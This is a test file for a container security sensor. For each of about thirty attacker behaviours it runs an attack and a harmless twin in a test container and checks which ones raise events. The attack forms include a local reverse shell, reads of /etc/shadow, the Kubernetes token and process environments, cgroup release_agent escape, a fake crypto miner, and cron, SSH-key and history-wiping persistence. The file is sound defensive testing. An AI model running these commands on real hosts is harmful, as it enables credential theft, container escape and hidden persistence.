"""What attackers do inside a real container arrives as events with pod and container within two
seconds; what looks like it and is harmless gives no such event.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

import pytest
from tests.support.containers import INTERPRETER, Container, Watch

from martello.adapters.sensors.shape import Event

TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
SCRIPT = "import ctypes, os, sys, socket\nlibc = ctypes.CDLL(None, use_errno=True)\n"


def sh(text: str) -> tuple[str, ...]:
    return "/bin/sh", "-c", text


def py(text: str) -> tuple[str, ...]:
    return INTERPRETER, "-I", "-S", "-c", SCRIPT + text


class Behaviour(NamedTuple):
    """What is done, the event that must come of it, and what must not give that event."""

    name: str
    attack: tuple[str, ...]
    event: dict[str, Any]
    benign: tuple[str, ...]


def has(*wanted: str) -> Callable[[Any], bool]:
    return lambda value: isinstance(value, list) and set(wanted) <= set(value)


def lacks(word: str) -> Callable[[Any], bool]:
    return lambda value: word not in (value or [])


def exec_(**columns: Any) -> dict[str, Any]:
    return {"kind": "process", "action": "exec", **columns}


def written(path: str, **columns: Any) -> dict[str, Any]:
    return {
        "kind": "file",
        "action": "open",
        "file_path": path,
        "file_flags": has("write"),
        **columns,
    }


def read(path: str) -> dict[str, Any]:
    return {"kind": "file", "action": "open", "file_path": path, "file_flags": has("read")}


def call(name: str, *arguments: str, **columns: Any) -> dict[str, Any]:
    return {"kind": "priv", "action": name, "priv_arg": has(*arguments), **columns}


MEMFD = "fd = os.memfd_create('x')\nos.write(fd, open('/bin/busybox', 'rb').read())\n"
PORT = 47_113
BEHAVIOURS = (
    Behaviour(
        "shell by exec",
        sh("true"),
        exec_(proc_name="sh", proc_flags=has("entered"), proc_argv=["/bin/sh", "-c", "true"]),
        ("/bin/ls", "/"),
    ),
    Behaviour(
        "reverse shell",
        py(
            f"s = socket.create_connection(('127.0.0.1', {PORT}))\n"
            "for n in range(3): os.dup2(s.fileno(), n)\n"
            "os.execv('/bin/sh', ['sh', '-c', 'true'])"
        ),
        exec_(proc_name="sh", proc_flags=has("socket")),
        py(
            f"s = socket.create_connection(('127.0.0.1', {PORT}))\n"
            "os.execv('/bin/sh', ['sh', '-c', 'true'])"
        ),
    ),
    Behaviour(
        "connection out",
        py(f"socket.create_connection(('127.0.0.1', {PORT}))"),
        {
            "kind": "network",
            "action": "connect",
            "net_proto": "tcp",
            "net_dst_ip": "127.0.0.1",
            "net_dst_port": PORT,
            "sys_res": "SUCCESS",
        },
        py("socket.socket().bind(('127.0.0.1', 0))"),
    ),
    Behaviour(
        "memfd exec",
        py(MEMFD + "os.execve(fd, ['true'], {})"),
        exec_(proc_flags=has("memfd"), proc_exe="memfd:x"),
        py("os.execv('/bin/true', ['memfd:x'])"),
    ),
    Behaviour("memfd made", py(MEMFD), call("memfd_create", "name=x"), py("open('/tmp/x', 'w')")),
    Behaviour(
        "nsenter to the host",
        py("fd = os.open('/proc/self/ns/uts', 0)\nlibc.setns(fd, 0x4000000)"),
        call("setns", "namespaces=uts", sys_res="SUCCESS"),
        sh("cat /proc/self/ns/uts || true"),
    ),
    Behaviour(
        "release_agent written",
        sh("mkdir /tmp/rdma; echo /cmd > /tmp/rdma/release_agent"),
        written("/tmp/rdma/release_agent"),
        sh("cat /tmp/rdma/release_agent"),
    ),
    Behaviour(
        "docker.sock connected",
        py(
            "try: socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')\n"
            "except OSError: pass"
        ),
        {"kind": "network", "net_proto": "unix", "net_dst_name": "/var/run/docker.sock"},
        sh("ls /var/run"),
    ),
    Behaviour("shadow read", sh("cat /etc/shadow"), read("/etc/shadow"), sh("cat /etc/passwd")),
    Behaviour(
        "shadow by a link",
        sh("ln -sf /etc/shadow /tmp/innocent; cat /tmp/innocent"),
        read("/etc/shadow"),
        sh("ln -sf /etc/passwd /tmp/innocent; cat /tmp/innocent"),
    ),
    Behaviour(
        "shadow by a relative path",
        sh("cd /etc/cron.d; cat ../shadow"),
        read("/etc/shadow"),
        sh("cd /etc/cron.d; cat ../passwd"),
    ),
    Behaviour("token read", sh(f"cat {TOKEN}"), read(TOKEN), sh(f"ls -l {TOKEN}")),
    Behaviour(
        "ptrace",
        py(
            "pid = os.fork()\nif not pid: libc.sleep(1)\n"
            "libc.ptrace(16, pid, 0, 0)\nos.kill(pid, 9)"
        ),
        call("ptrace", "request=ATTACH", sys_res="SUCCESS"),
        py("pid = os.fork()\nif not pid: os._exit(0)\nos.waitpid(pid, 0)"),
    ),
    Behaviour(
        "package manager", ("/bin/apk", "add", "nmap"), exec_(proc_name="apk"), ("/bin/echo", "apk")
    ),
    Behaviour(
        "miner",
        sh("cp /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://pool:3333"),
        exec_(proc_name="xmrig", proc_exe="/tmp/xmrig"),
        sh("echo /tmp/xmrig -o stratum+tcp://pool:3333"),
    ),
    Behaviour(
        "tunnel listens",
        py("s = socket.socket()\ns.bind(('127.0.0.1', 47114))\ns.listen()"),
        {"kind": "network", "action": "listen", "net_src_port": 47_114, "net_src_ip": "127.0.0.1"},
        py("s = socket.socket()\ns.bind(('127.0.0.1', 47114))"),
    ),
    Behaviour(
        "unshare user and mount",
        sh("unshare -m true"),
        call("unshare", "namespaces=mnt", sys_res="SUCCESS"),
        py("libc.unshare(0x400)"),
    ),
    Behaviour(
        "mount",
        sh("mkdir -p /tmp/m; mount -t tmpfs none /tmp/m"),
        call("mount", "type=tmpfs", "target=/tmp/m", sys_res="SUCCESS"),
        sh("mount"),
    ),
    Behaviour(
        "setuid to root",
        py("libc.setresuid(99, 99, 0)\nlibc.setuid(0)"),
        call("setuid", "uid=0", proc_uid=99),
        py("libc.setuid(99)"),
    ),
    Behaviour("bpf", py("libc.syscall(321, 0, 0, 0)"), call("bpf", "command=MAP_CREATE"), sh("id")),
    Behaviour(
        "capset",
        py(
            "head = (ctypes.c_uint32 * 2)(0x20080522, 0)\n"
            "data = (ctypes.c_uint32 * 6)(1 << 21, 1 << 21, 0, 0, 0, 0)\n"
            "libc.capset(head, data)"
        ),
        call("capset", "effective=SYS_ADMIN", sys_res="SUCCESS"),
        py("libc.capget(0, 0)"),
    ),
    Behaviour(
        "program written",
        sh("cp /bin/busybox /usr/bin/sshd"),
        written("/usr/bin/sshd"),
        sh("cp /bin/busybox /tmp/sshd"),
    ),
    Behaviour(
        "program written by a link",
        sh("ln -s /usr/bin /tmp/elsewhere; echo > /tmp/elsewhere/ps"),
        written("/usr/bin/ps"),
        sh("mkdir -p /tmp/plain; echo > /tmp/plain/ps"),
    ),
    Behaviour(
        "cron",
        sh("echo '* * * * * root id' > /etc/cron.d/x"),
        written("/etc/cron.d/x"),
        sh("ls /etc/cron.d"),
    ),
    Behaviour(
        "ssh key",
        sh("echo key >> /root/.ssh/authorized_keys"),
        written("/root/.ssh/authorized_keys", file_flags=has("write", "append")),
        sh("ls /root/.ssh"),
    ),
    Behaviour(
        "history deleted",
        sh("rm /root/.ash_history"),
        {
            "kind": "file",
            "action": "unlink",
            "file_path": "/root/.ash_history",
            "sys_res": "SUCCESS",
        },
        sh("ls /root"),
    ),
    Behaviour(
        "setuid bit",
        sh("chmod 4755 /tmp/xmrig"),
        {"kind": "file", "action": "chmod", "file_path": "/tmp/xmrig", "file_flags": ["setuid"]},
        sh("chmod 755 /tmp/xmrig"),
    ),
    Behaviour(
        "moved into place",
        sh("echo > /tmp/j; mv /tmp/j /etc/cron.d/j"),
        {"kind": "file", "action": "rename", "file_path": "/etc/cron.d/j"},
        sh("echo > /tmp/j; mv /tmp/j /tmp/k"),
    ),
    Behaviour(
        "open by handle",
        py("libc.open_by_handle_at(-1, 0, 0)"),
        call("open_by_handle_at"),
        sh("id"),
    ),
    Behaviour("io_uring", py("libc.syscall(425, 1, 0)"), call("io_uring_setup"), sh("id")),
    Behaviour("chroot", sh("chroot / /bin/true"), call("chroot", "root=/"), sh("cd /; true")),
    Behaviour(
        "environment of another",
        sh("cat /proc/1/environ"),
        read("/proc/1/environ"),
        sh("cat /proc/1/status"),
    ),
)


@pytest.fixture(scope="module", autouse=True)
def listener() -> Iterator[None]:
    """Somebody at the other end of connections."""
    server = socket.create_server(("127.0.0.1", PORT), reuse_port=True)  # of both files

    def accept() -> None:
        while True:
            try:
                server.accept()[0].close()
            except OSError:
                return

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield
    server.shutdown(socket.SHUT_RDWR)
    server.close()
    thread.join(5)


def matches(event: Event, wanted: dict[str, Any]) -> bool:
    return all(
        value(event.get(column)) if callable(value) else event.get(column) == value
        for column, value in wanted.items()
    )


@pytest.mark.parametrize("behaviour", BEHAVIOURS, ids=lambda one: one.name.replace(" ", "-"))
def test_attacks_arrive_and_their_twins_do_not(
    behaviour: Behaviour, container: Container, watch: Watch
) -> None:
    wanted = {**behaviour.event, "container_id": container.name}
    begun = len(watch.events)
    container.execute(*behaviour.benign)
    marker = f"twin-of-{behaviour.name}"
    container.execute("/bin/true", marker)
    ended = watch.wait(lambda event: event.get("proc_argv", ["", ""])[1:] == [marker], 5, begun)
    assert ended is not None, "the marker behind the benign twin did not come"
    false = [event for event in watch.events[begun:] if matches(event, wanted)]
    assert not false, f"the benign twin gave {false[0]}"

    begun = len(watch.events)
    done = container.execute(*behaviour.attack)
    event = watch.wait(lambda event: matches(event, wanted), 2, begun)
    assert event is not None, (done.stderr.decode(), watch.events[begun:])
    assert event["k8s_ns"] == "shop"
    assert event["pod_name"] == "web-5d7f9c-abcde"
    assert event["pod_workload"] == "deploy/web"
    assert event["pod_sa"] == "shopper"
    assert event["container_name"] == "web"
    assert event["container_id"] == container.name
    assert event["image_ref"] == "registry.example/web:1"
    assert event["seen"] >= event["time"]
    assert (event["cluster"], event["node"], event["source"]) == ("test", "node-1", "bpftrace")
